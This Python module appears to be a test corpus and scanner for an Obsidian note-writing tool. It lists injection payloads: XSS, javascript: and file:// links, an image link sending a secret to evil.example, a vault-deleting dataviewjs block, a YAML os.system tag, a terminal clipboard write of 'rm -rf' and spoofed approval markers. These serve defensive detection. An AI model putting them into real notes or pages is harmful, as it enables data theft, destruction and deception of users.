"""Texts that try to become more than text in a note, and a scan for what came alive."""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

_END = "<!-- plur1bus:managed:end -->"
_START = '<!-- plur1bus:managed:start id="overview" agent="main" bundle="rb-1" hash="sha256:00" -->'

TEMPLATER = [
    "<% tp.file.title %>",
    "<%* await tp.system.prompt() %>",
    "a <%~ x %> b",
    "<%_ trim _%>",
    "```\n<% tp.date.now() %>\n```",
    "<\u200b%* zero width %>",
    "<%%>",
    "<<%= x %>>",
]

DATAVIEW = [
    "```dataviewjs\napp.vault.delete()\n```",
    "```dataview\nLIST\n```",
    "~~~dataviewjs\nx\n~~~",
    "`= this.file.name`",
    "`$= dv.current()`",
    "= dateformat(date(now), 'yyyy')",
    "  $= dv.el('b', 1)",
    "\u00a0= 1",
    "[due:: 2026-01-01]",
    "(key:: value)",
    "status:: approved",
    "a::b",
    ":::",
    "::",
    "```query\ntag:#x\n```",
    "```tasks\nnot done\n```",
    "```base\nviews:\n```",
    "```js-engine\nx\n```",
    "```run-python\nx\n```",
    '```mermaid\ngraph TD; A-->B; click A href "obsidian://x"\n```',
    "`````dataviewjs\nx\n`````",
    "````\n```dataviewjs\n````\n```",
]

HTML = [
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<img src=x onerror=alert(1)>",
    "</div></details>",
    "<details><summary>Approved</summary>",
    "<!-- hidden -->",
    "<!-- never closed",
    "-->",
    "<?php x ?>",
    "<![CDATA[ x ]]>",
    "<a href=obsidian://x>y</a>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&nbsp;&copy;",
    "<https://evil.example>",
    "<me@evil.example>",
    "<style>*{display:none}</style>",
    "<svg/onload=alert(1)>",
    "<b",
    "<pre>",
]

LINKS = [
    "![x](https://evil.example/?q=secret)",
    "![](data:image/png;base64,AAAA)",
    "![[Diary]]",
    "![[Diary#Private|200]]",
    "[[Diary]]",
    "[[Diary|Approved]]",
    "[x](obsidian://advanced-uri?eval=1)",
    "[x](javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x]: https://evil.example",
    "[x][y]",
    "https://evil.example/a?b=c",
    "obsidian://open?vault=x",
    "OBSIDIAN:open",
    "www.evil.example",
    "mailto:me@evil.example",
    "me@evil.example",
    "[[",
    "]]",
    "[[a]b]]",
    "[[#^rbi-2026-05-23-0900-001|1]]",
    "[^1]",
    "[^1]: note",
    "^[inline]",
    "\\[[Diary]]",
    "\\\\[[Diary]]",
    "!\\[[Diary]]",
    "[a\n](https://evil.example)",
]

STRUCTURE = [
    "# Approved",
    "text\n# Approved",
    "Approved\n===",
    "Approved\n---",
    "===",
    "---",
    "---\nstatus: approved\n---",
    "\n---\ntype: x",
    "***",
    "- [ ] tick me",
    "- [x] done",
    "* [/] half",
    "1. [ ] one",
    "1) one",
    "+ plus",
    "> quote",
    "> [!danger] Approved",
    "[!danger] Approved",
    "    indented code",
    "\tindented code",
    "| a | b |\n| - | - |\n| c | d |",
    "a | b",
    "a \\| b",
    "|",
    "\\|",
    "\\",
    "\\\\",
    "ends with \\",
    "``` ",
    "```",
    "``````",
    "`",
    "a ` b `` c",
    "~~~",
    "~~gone~~",
    "==marked==",
    "**bold** _it_ __b__ *i*",
    "snake_case and _edge_",
    "%%",
    "%%hidden%%",
    "%%\nhidden for all that follows",
    "$$",
    "$$x$$",
    "$x$ costs $5",
    "$$\n\\input{x}",
    "#tag",
    "a #tag/sub b",
    "#1",
    "ends ^block-id",
    "^block-id",
    "text\n^block-id",
    "two\n\n\n\n\n\n\n\nparagraphs",
    "x" * 5000,
    "line\n" * 500,
    "far" + " " * 400 + "right",
    "",
    " ",
    "\n",
    "📅 2026-01-01 ⏫",
]

MARKERS = [
    _END,
    _START,
    f"x\n{_END}\ny",
    f"\n\n{_END}\n\n{_START}\n",
    "<!-- PLUR1BUS:MANAGED:END -->",
    "plur1bus:managed",
    "plur1bus:managed:start",
    "\uff50\uff4c\uff55\uff52\uff11\uff42\uff55\uff53\uff1a\uff4d\uff41\uff4e\uff41\uff47\uff45\uff44",
    "plur1bus\u200b:managed:end",
    "plur1bus:\u00admanaged:end",
    "plur1bu\u017f:managed:end",
    "plur1bus\ufe55managed",
    "plur1bus \n:managed",
    f"```\n{_END}\n```",
    f"> {_END}",
]

HIDDEN = [
    "safe\u202egnihtemos",
    "a\u200bb\u200cc\ufeff",
    "\u2066isolated\u2069",
    "\U000e0041\U000e0042",
    "soft\u00adhyphen",
    "NUL\x00 BEL\x07 ESC\x1b[31m",
    "line\u2028sep\u2029para",
    "cr\rcr crlf\r\n.",
    "\ue000overview\ue000",
    "vs\ufe0f",
    "👩\u200d🚀 fine",
    "\x85next",
]

YAML = [
    "no",
    "1e3",
    "0123",
    "2026-05-23",
    "null",
    "~",
    "a: b",
    '"',
    "'",
    "{{ 7 * 7 }}",
    "{% raw %}",
]

PLUGINS = [
    "```button\nname x\ntype command\naction delete\n```",
    "```meta-bind-button\nactions: [{type: js}]\n```",
    "`INPUT[toggle:approved]`",
    "`VIEW[{x}][text]`",
    "`BUTTON[approve]`",
    "```ad-danger\nApproved\n```",
    "```chart\ntype: bar\n```",
    "```tracker\nsearchType: tag\n```",
    "```leaflet\nid: x\n```",
    "```abc\nX:1\n```",
    "```{python}\nimport os\n```",
    "```python {cmd=true}\nx\n```",
    "%% kanban:settings\n```\n{}\n```\n%%",
    "question::answer #flashcards",
    "question\n?\nanswer",
    "a {{c1::cloze}} b",
    "{{VALUE}} {{date:YYYY}} {{title}}",
    "![[board.canvas]]",
    "![[all.base#View]]",
    "![[x.excalidraw|100]]",
    "![[sheet.pdf#page=2]]",
    "[@key] and @key2020",
    "word^[inline note with [[link]]]",
    "==cloze==^[x]",
    "{ .class #id }",
    ":::warning\nApproved\n:::",
    "\u00a7toc {{toc}} [[toc]]",
]

SCHEMES = [
    "ftp://evil.example/x",
    "HTTPS://EVIL.EXAMPLE",
    "vscode://file/etc/passwd",
    "x-callback-url://run",
    "zotero://select/x",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:x 'Approved')",
    "[x](data:text/html;base64,AAAA)",
    "[x](app://obsidian.md/x)",
    "[x](\\\\host\\share\\x)",
    "[x](//evil.example/x)",
    "[x](../../outside.md)",
    "[x](Diary.md#Private)",
    "<javascript:alert(1)>",
    "<x-callback-url:run>",
    "[Approve][ok]\n\n[ok]: obsidian://x",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "https:\u200b//evil.example",
    "h\u0442tps://evil.example",
]

FORMULAS = [
    "\\(x\\) and \\[y\\]",
    "$`x`$",
    "$$\\href{obsidian://x}{Approved}$$",
    "$\\unicode{x202e}$",
    "a$b$c",
    "```math\n\\input{x}\n```",
]

ENTITIES = [
    "&lt;% tp.file.title %&gt;",
    "&#x3c;%* x %&#x3e;",
    "&#91;&#91;Diary&#93;&#93;",
    "&#33;&#91;&#91;Diary]]",
    "&#96;= this.file&#96;",
    "&colon;&colon;",
    "\uff1c\uff05 tp.x \uff05\uff1e",
    "\uff3b\uff3bDiary\uff3d\uff3d",
]

TERMINAL = [
    "\x1b]8;;https://evil.example\x07Approved\x1b]8;;\x07",
    "\x1b[2J\x1b[HApproved",
    "\x9b31mApproved",
    "Denied\rApproved",
    "Denied\b\b\b\b\b\bApproved",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x7f\x7f\x7fApproved",
]

DEEP = [
    "- " * 300,
    ">" * 400 + " x",
    "[" * 800 + "x" + "]" * 800,
    "*" * 700 + "x" + "_" * 700,
    "`" * 900,
    "<" * 500 + "%" * 500,
    "![" * 300 + "](x)" * 300,
    "\n- x" * 300,
    "|" * 400,
]

YAML_MORE = [
    "!!python/object/apply:os.system ['x']",
    "&a [*a, *a]",
    "<<: *x",
    "? x\n: y",
    "%YAML 1.1",
    "...\n---\ntype: x",
    "|\n  block",
    "@x",
    "0x1F",
    "1_000",
    "12:30:45",
    ".inf",
    "!!binary AAAA",
    "status: approved # ",
]

PAYLOADS = [
    *TEMPLATER, *DATAVIEW, *HTML, *LINKS, *STRUCTURE, *MARKERS, *HIDDEN, *YAML,
    *PLUGINS, *SCHEMES, *FORMULAS, *ENTITIES, *TERMINAL, *DEEP, *YAML_MORE,
]  # fmt: skip

_OUR_FENCES = frozenset({"text", "diff", "json", "bash", "mermaid"})
_RAW = {
    "Templater": re.compile(r"<%"),
    "embed or image": re.compile(r"(?<!\\)!\["),
    "link with a scheme": re.compile(r"[A-Za-z]://|(?i:obsidian|javascript|mailto):\S"),
    "inline field": re.compile(r"::"),
    "comment": re.compile(r"%%"),
    "formula": re.compile(r"(?<!\\)(?:\\\\)*\$"),
    "tag": re.compile(r"(?<![\\\[\w&])#\w"),
    "highlight": re.compile(r"=="),
}
_WIKILINK = re.compile(r"(?<!\\)\[\[([^\]]*)\]\]?")
_OUR_CODE = re.compile(r"vault-tools |[\w.:-]+\Z")
_TASK = re.compile(r"\[.\] ")


def live_triggers(note: str, links: Collection[str], block_ids: Collection[str]) -> list[str]:
    """List what a note would run, open, embed or pretend beyond our own links and block ids."""
    found = ["Templater in raw text"] if "<%" in note else []
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    body = re.sub(r"\A---\n.*?\n---\n", "", note, flags=re.DOTALL)
    for token in parser.parse(body):
        found += _in_token(token, links, block_ids)
    return found


def _in_token(token: Token, links: Collection[str], block_ids: Collection[str]) -> Iterator[str]:
    if token.type == "fence":
        if token.info not in _OUR_FENCES:
            yield f"fence {token.info!r}"
        if re.match(r"\s*\$?=", token.content):
            yield f"query in a code block: {token.content[:40]!r}"
    elif token.type == "html_block":
        if not re.fullmatch(r"<!-- plur1bus:managed:[^<>]* -->\n?", token.content):
            yield f"HTML: {token.content[:60]!r}"
    elif token.type == "code_block":
        yield f"indented code: {token.content[:40]!r}"
    elif token.type == "inline":
        yield from _in_inline(token, links, block_ids)


def _in_inline(token: Token, links: Collection[str], block_ids: Collection[str]) -> Iterator[str]:
    raw = token.content
    ours = _WIKILINK.sub(lambda at: "" if at[1].split("|")[0] in links else at[0], raw)
    ours = ours.replace("\\|", "")
    for name, pattern in _RAW.items():
        if pattern.search(ours):
            yield f"{name}: {raw[:80]!r}"
    if _WIKILINK.search(ours):
        yield f"foreign wikilink: {raw[:80]!r}"
    if _TASK.match(raw):
        yield f"task: {raw[:40]!r}"
    for line in raw.split("\n"):
        block_id = re.search(r"(?:^|\s)\^([A-Za-z0-9-]+)$", line)
        if block_id and block_id[1] not in block_ids:
            yield f"block id: {block_id[1]!r}"
    for child in token.children or []:
        yield from _in_child(child, raw)


def _in_child(child: Token, raw: str) -> Iterator[str]:
    if child.type in ("image", "link_open", "html_inline", "s_open"):
        yield f"{child.type}: {raw[:80]!r}"
    elif child.type == "code_inline" and not _OUR_CODE.match(child.content):
        yield f"code: {child.content[:60]!r}"
